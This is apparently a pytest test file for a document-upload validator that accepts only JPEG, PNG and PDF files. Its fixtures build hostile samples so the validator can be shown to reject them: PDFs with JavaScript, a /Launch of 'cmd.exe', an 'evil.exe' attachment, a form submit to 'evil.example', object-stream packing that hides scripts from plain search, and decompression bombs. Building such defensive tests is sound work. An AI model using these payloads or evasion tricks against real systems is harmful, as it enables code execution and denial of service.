"""A file is what its content says; each bad one gets its own clear answer and none breaks the service."""

from __future__ import annotations

import random
import resource
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from hashlib import sha256
from io import BytesIO
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from workflow_service.documents.content import Inspected, Unacceptable, inspect

LIMIT = 2 * 1024 * 1024


def image(kind: str, size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: object) -> bytes:
    picture = Image.effect_noise(size, 60).convert(mode)
    out = BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def pdf(change: Callable[[PdfWriter], object] | None = None, pages: int = 2) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if change is not None:
        change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def names(**entries: object) -> DictionaryObject:
    """A PDF dictionary; texts that start with a slash are names."""
    made = DictionaryObject()
    for key, value in entries.items():
        is_name = isinstance(value, str) and value.startswith("/")
        made[NameObject("/" + key)] = NameObject(value) if is_name else value
    return made


def refused(source: bytes, limit: int = LIMIT) -> tuple[int, str]:
    with pytest.raises(Unacceptable) as caught:
        inspect(source, limit)
    assert caught.value.message_zh
    assert caught.value.message_en
    return caught.value.status, caught.value.code


@pytest.mark.parametrize(
    ("data", "media_type"),
    [
        (image("JPEG"), "image/jpeg"),
        (image("JPEG", progressive=True), "image/jpeg"),
        (image("JPEG", mode="CMYK"), "image/jpeg"),
        (image("PNG"), "image/png"),
        (image("PNG", mode="1"), "image/png"),
        (image("PNG", mode="RGBA"), "image/png"),
    ],
)
def test_a_photograph_or_scan_is_taken_with_its_size(data: bytes, media_type: str) -> None:
    assert inspect(data, LIMIT) == Inspected(media_type, 60, 40, None, len(data), sha256(data).hexdigest())  # type: ignore[arg-type]


def test_a_phone_photograph_with_a_second_picture_inside_is_a_jpeg() -> None:
    second = Image.new("RGB", (8, 8))
    out = BytesIO()
    Image.new("RGB", (60, 40)).save(out, "MPO", save_all=True, append_images=[second])
    assert inspect(out.getvalue(), LIMIT).media_type == "image/jpeg"


def test_a_pdf_is_taken_with_its_pages() -> None:
    data = pdf(pages=3)
    assert inspect(data, LIMIT) == Inspected("application/pdf", None, None, 3, len(data), sha256(data).hexdigest())


def test_a_scanner_pdf_with_an_image_and_a_link_is_taken() -> None:
    out = BytesIO()
    Image.new("RGB", (60, 40)).save(out, "PDF")
    assert inspect(out.getvalue(), LIMIT).pages == 1
    linked = pdf(lambda w: w.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://www.moe.gov.cn/")))
    assert inspect(linked, LIMIT).pages == 2


def test_bytes_a_path_and_a_stream_are_read_alike(tmp_path: Path) -> None:
    data = image("PNG")
    path = tmp_path / "scan.exe"
    path.write_bytes(data)
    assert inspect(data, LIMIT) == inspect(path, LIMIT) == inspect(BytesIO(data), LIMIT) == inspect(Drip(data), LIMIT)


class Drip:
    """A slow connection: at most seven bytes at a time."""

    def __init__(self, data: bytes) -> None:
        self.left = data
        self.given = 0

    def read(self, size: int, /) -> bytes:
        now, self.left = self.left[: min(7, size)], self.left[min(7, size) :]
        self.given += len(now)
        return now


def test_an_endless_stream_is_read_to_the_limit_and_no_further() -> None:
    endless = Drip(b"\xff\xd8\xff" + b"\0" * 100_000)
    with pytest.raises(Unacceptable) as caught:
        inspect(endless, 1000)
    assert (caught.value.status, caught.value.code) == (413, "document_too_large")
    assert endless.given == 1001


def test_the_limit_itself_is_allowed_and_one_byte_more_is_not() -> None:
    data = image("PNG")
    assert inspect(data, len(data)).size == len(data)
    assert refused(data, len(data) - 1) == (413, "document_too_large")


def test_the_refusal_names_the_limit_in_both_languages() -> None:
    with pytest.raises(Unacceptable) as caught:
        inspect(b"x" * (LIMIT + 1), LIMIT)
    assert "2 MB" in caught.value.message_zh
    assert "2 MB" in caught.value.message_en


def test_a_pack_may_take_images_only() -> None:
    with pytest.raises(Unacceptable) as caught:
        inspect(pdf(), LIMIT, frozenset({"image/jpeg", "image/png"}))
    assert (caught.value.status, caught.value.code) == (415, "document_kind")
    assert "JPG、PNG 文件" in caught.value.message_zh


@pytest.mark.parametrize(
    ("data", "answer"),
    [
        (b"", (422, "document_empty")),
        (b"x", (415, "document_kind")),
        (b"<!DOCTYPE html><script>alert(1)</script>", (415, "document_kind")),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", (415, "document_kind")),
        (b"\n<html>%PDF-1.7</html>", (415, "document_kind")),
        (b"MZ\x90\x00" + b"\0" * 100, (415, "document_kind")),
        (b"PK\x03\x04" + b"\0" * 100, (415, "document_kind")),
        (b"GIF89a" + b"\0" * 100, (415, "document_kind")),
        (image("GIF", mode="L"), (415, "document_kind")),
        (image("BMP"), (415, "document_kind")),
        (image("TIFF"), (415, "document_kind")),
        (image("WEBP"), (415, "document_kind")),
        (b"%!PS-Adobe-3.0\n", (415, "document_kind")),
        (b"\xff\xd8\xff", (422, "document_damaged")),
        (b"\x89PNG\r\n\x1a\n", (422, "document_damaged")),
        (b"%PDF-1.7\n<html><script>alert(1)</script></html>", (422, "document_damaged")),
        (b"%PDF-1.7\n<html></html>\n%%EOF", (422, "document_damaged")),
        (pdf(pages=0), (422, "document_damaged")),
        (b"\xff\xd8\xff" + image("PNG"), (422, "document_damaged")),
    ],
)
def test_what_is_no_document_is_refused_for_what_it_is(data: bytes, answer: tuple[int, str]) -> None:
    assert refused(data) == answer


@pytest.mark.parametrize("data", [image("JPEG"), image("JPEG", progressive=True), image("PNG"), pdf()])
def test_a_file_that_was_cut_off_is_damaged(data: bytes) -> None:
    for kept in (len(data) // 10, len(data) // 3, len(data) // 2, len(data) * 9 // 10, len(data) - 2):
        assert refused(data[:kept]) == (422, "document_damaged")


def javascript(writer: PdfWriter) -> None:
    script = writer._add_object(names(S="/JavaScript", JS=TextStringObject("app.alert(1)")))
    tree = names(Names=ArrayObject([TextStringObject("first"), script]))
    writer.root_object[NameObject("/Names")] = names(JavaScript=tree)


def open_action(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(names(S="/JavaScript", JS=TextStringObject("x")))


def launch(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/AA")] = names(O=names(S="/Launch", F=TextStringObject("cmd.exe")))


def attachment(writer: PdfWriter) -> None:
    writer.add_attachment("evil.exe", b"MZ")


def hidden_in_a_next_action(writer: PdfWriter) -> None:
    following = writer._add_object(names(S="/Launch", F=TextStringObject("calc")))
    writer.root_object[NameObject("/OpenAction")] = names(S="/GoTo", Next=ArrayObject([following]))


def submitting_form(writer: PdfWriter) -> None:
    action = names(S="/SubmitForm", F=TextStringObject("http://evil.example/"))
    writer.pages[0][NameObject("/Annots")] = ArrayObject([names(Subtype="/Widget", A=action)])


def xfa(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/AcroForm")] = names(XFA=TextStringObject("<xdp/>"))


def rich_media(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/Annots")] = ArrayObject([names(Subtype="/RichMedia")])


@pytest.mark.parametrize(
    "change",
    [javascript, open_action, launch, attachment, hidden_in_a_next_action, submitting_form, xfa, rich_media],
)
@pytest.mark.parametrize("packed", [False, True])
def test_a_pdf_that_would_do_something_is_refused(change: Callable[[PdfWriter], None], packed: bool) -> None:
    data = pdf(change)
    if packed:
        data = in_object_stream(data)
        assert b"/JavaScript" not in data
    assert refused(data) == (415, "document_active")


def in_object_stream(data: bytes, padding: bytes = b"") -> bytes:
    """The same PDF with every object that is no stream inside a compressed one, where no plain search sees it."""
    from pypdf import PdfReader

    reader = PdfReader(BytesIO(data))
    bodies: dict[int, bytes] = {}
    plain: dict[int, bytes] = {}
    for number in sorted(reader.xref[0]):
        found = reader.get_object(number)
        out = BytesIO()
        assert found is not None
        found.write_to_stream(out)
        (plain if isinstance(found, DecodedStreamObject) or b"stream" in out.getvalue() else bodies)[number] = (
            out.getvalue()
        )
    out, offsets = BytesIO(b"%PDF-1.7\n"), {}
    out.seek(0, 2)
    for number, body in plain.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    index, joined = b"", b""
    for number, body in bodies.items():
        index += b"%d %d " % (number, len(joined))
        joined += body + b" "
    holder = max(reader.xref[0]) + 1
    packed = zlib.compress(index + joined + padding, 9)
    offsets[holder] = out.tell()
    out.write(
        b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n"
        % (holder, len(bodies), len(index), len(packed), packed)
    )
    start = out.tell()
    rows = b"\0\0\0\0\0\0\0"
    places = list(bodies)
    for number in range(1, holder + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        else:
            rows += struct.pack(">BIH", 2, holder, places.index(number))
    table = zlib.compress(rows)
    root = reader.trailer.raw_get("/Root").idnum
    out.write(
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root %d 0 R/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\n"
        b"endobj\nstartxref\n%d\n%%%%EOF\n" % (holder + 1, holder + 1, root, len(table), table, start)
    )
    return out.getvalue()


def test_a_plain_pdf_with_packed_objects_is_taken() -> None:
    assert inspect(in_object_stream(pdf()), LIMIT).pages == 2


@pytest.mark.parametrize("user_password", ["", "geheim"])
def test_a_protected_pdf_is_refused_even_with_an_empty_password(user_password: str) -> None:
    data = pdf(lambda w: w.encrypt(user_password, "owner", algorithm="RC4-128"))
    assert refused(data) == (415, "document_encrypted")


def test_a_script_in_an_older_revision_is_found() -> None:
    writer = PdfWriter(BytesIO(pdf(javascript)), incremental=True)
    del writer.root_object["/Names"]
    out = BytesIO()
    writer.write(out)
    assert refused(out.getvalue()) == (415, "document_active")


def test_a_page_tree_that_contains_itself_is_damaged() -> None:
    def loop(writer: PdfWriter) -> None:
        pages = writer.root_object["/Pages"]
        assert isinstance(pages, DictionaryObject)
        pages["/Kids"].append(writer.root_object.raw_get("/Pages"))  # type: ignore[attr-defined]

    try:
        assert inspect(pdf(loop), LIMIT).pages == 2
    except Unacceptable as refusal:
        assert refusal.code == "document_damaged"  # noqa: PT017


def png_of(width: int, height: int) -> bytes:
    """A PNG of one colour whose rows are compressed to next to nothing."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    packer = zlib.compressobj(9)
    row = b"\0" * (1 + (width + 7) // 8)
    packed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


@pytest.mark.filterwarnings("error")
@pytest.mark.parametrize("side", [7_000, 10_000, 30_000])
def test_an_image_that_would_unfold_is_refused_before_it_does(side: int) -> None:
    assert refused(png_of(side, side)) == (413, "document_too_many_pixels")


def test_bombs_stay_within_200_mb_and_five_seconds(tmp_path: Path) -> None:
    bomb = zlib.compress(b"\0" * 300_000_000, 9)
    start = b"%PDF-1.7\n"
    page_stream = pdf(lambda w: w.pages[0].__setitem__(NameObject("/Contents"), w._add_object(deflated(bomb))))
    (tmp_path / "1").write_bytes(png_of(30_000, 30_000))
    (tmp_path / "2").write_bytes(png_of(6_300, 6_300))
    (tmp_path / "3").write_bytes(in_object_stream(pdf(), b" " * 300_000_000))
    (tmp_path / "6").write_bytes(in_object_stream(pdf(), b" " * 74_000_000))
    (tmp_path / "4").write_bytes(page_stream)
    (tmp_path / "5").write_bytes(start + b"1 0 obj\n" + b"[" * 900_000 + b"\nstartxref\n9\n%%EOF")
    code = (
        "import sys; from pathlib import Path\n"
        "from workflow_service.documents.content import inspect, Unacceptable\n"
        "for path in sys.argv[1:]:\n"
        "    try: inspect(Path(path), 2 * 1024 * 1024)\n"
        "    except Unacceptable: pass\n"
        # ru_maxrss would tell the parent's size: it outlives exec. VmHWM is this process's own.
        "print(next(line.split()[1] for line in open('/proc/self/status') if line.startswith('VmHWM')))"
    )

    def in_five_seconds() -> None:
        resource.setrlimit(resource.RLIMIT_CPU, (5, 5))

    for number in "123456":
        argv = [sys.executable, "-c", code, str(tmp_path / number)]
        ended = subprocess.run(argv, capture_output=True, text=True, preexec_fn=in_five_seconds)
        assert ended.returncode == 0, (number, ended.stderr)
        assert int(ended.stdout) < 200 * 1024, number


def deflated(packed: bytes) -> DecodedStreamObject:
    stream = DecodedStreamObject()
    stream.set_data(packed)
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    stream[NameObject("/Length")] = NumberObject(len(packed))
    return stream


@pytest.mark.parametrize("good", [image("JPEG"), image("PNG"), pdf(), in_object_stream(pdf(javascript))])
def test_no_damage_breaks_the_service(good: bytes) -> None:
    draw = random.Random(20261124)
    for _ in range(150):
        bad = bytearray(good)
        for _ in range(draw.choice((1, 3, 20))):
            bad[draw.randrange(8, len(bad))] = draw.randrange(256)
        try:
            inspect(bytes(bad), LIMIT)
        except Unacceptable:
            continue
